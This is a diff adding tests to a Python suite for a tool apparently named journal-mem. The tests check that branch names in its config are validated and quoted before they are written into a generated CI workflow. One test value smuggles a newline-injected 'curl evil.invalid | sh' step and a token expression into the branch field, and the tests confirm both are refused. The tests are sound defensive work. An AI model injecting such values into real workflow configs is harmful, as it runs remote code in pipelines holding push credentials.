@@ -210,3 +210,35 @@ def test_no_hint_names_the_unpublished_package(tmp_path: Path) -> None:
     for out in (init.stderr, status.stdout + status.stderr):
         assert "journal-mem checkout (the name is not on the package index)" in out
         assert "install journal-mem" not in out
+
+
+def test_a_branch_git_refuses_is_refused_and_nothing_is_written(tmp_path: Path) -> None:
+    """A newline in `distill.branch` would have added a step to a job that can push."""
+    repo = make_repo(tmp_path / "project")
+    (repo / ".claude").mkdir(exist_ok=True)
+    (repo / ".claude" / "journal-mem.toml").write_text(
+        '[distill]\nbranch = "main\\n      - run: curl evil.invalid | sh"\n')
+    proc = jmem(repo, *INIT_CI, "--ci-install", "pip install journal-mem==0.1.0")
+    assert proc.returncode == 1, proc.stdout + proc.stderr
+    assert "check-ref-format --branch" in proc.stderr and "distill.branch" in proc.stderr
+    assert not (repo / WORKFLOW).exists()
+    for bad in ("-x", "a..b", "@{-1}", "x${{github.token}}"):
+        (repo / ".claude" / "journal-mem.toml").write_text(f'[distill]\nbranch = "{bad}"\n')
+        proc = jmem(repo, *INIT_CI, "--ci-install", "pip install journal-mem==0.1.0")
+        assert proc.returncode == 1 and not (repo / WORKFLOW).exists(), bad
+
+
+def test_every_value_is_quoted_and_a_pattern_character_matches_itself(tmp_path: Path) -> None:
+    repo = make_repo(tmp_path / "project")
+    (repo / ".claude").mkdir(exist_ok=True)
+    (repo / ".claude" / "journal-mem.toml").write_text(
+        '[distill]\nbranch = "release/1.0+hot#fix"\n')
+    proc = jmem(repo, *INIT_CI, "--ci-install", "pip install journal-mem==0.1.0")
+    assert proc.returncode == 0, proc.stderr
+    flow = yaml.safe_load((repo / WORKFLOW).read_text())
+    assert flow[True]["push"]["branches"] == ["release/1.0\\+hot#fix"]
+    refs = {s["with"]["ref"] for j in flow["jobs"].values() for s in j["steps"]
+            if s.get("uses", "").startswith("actions/checkout@")}
+    assert refs == {"release/1.0+hot#fix"}
+    lint = actionlint(repo / WORKFLOW)
+    assert lint.returncode == 0, lint.stdout + lint.stderr
